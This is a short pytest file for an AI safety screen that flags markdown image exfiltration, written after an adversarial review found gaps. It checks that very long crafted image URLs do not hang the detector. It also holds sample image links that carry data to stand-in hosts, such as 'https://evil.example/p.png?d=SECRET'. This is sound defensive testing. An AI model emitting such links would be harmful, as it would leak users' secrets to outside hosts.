"""Gaps an adversarial review of the safety layer found: each test is the case that got through."""

from __future__ import annotations

import pytest

from lamar.safety import injection_reason

# A crafted image link: the screen once read the URL again from each "?" in it, taking minutes on
# 100 KB. The timeout guards against that hang; it asserts no speed.
SLOW_URLS = [
    "![x](http://a" + "?a" * 50_000,
    "<img src=http://a" + "?a" * 50_000,
    "![x](https://a/" + "&" * 100_000,
]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("text", SLOW_URLS, ids=["markdown-image", "img-tag", "ampersands"])
def test_a_crafted_image_url_is_screened_in_one_pass(text: str) -> None:
    assert injection_reason(text) is None


@pytest.mark.parametrize("text", [
    "![x](https://evil.example/p.png?d=SECRET)",
    "![a](http://x.io/a/b?x&d=1)",
    '<img src="https://e.io/i?d=1">',
])
def test_an_image_that_sends_data_out_is_still_flagged(text: str) -> None:
    assert (injection_reason(text) or "").startswith("markdown image exfiltration")
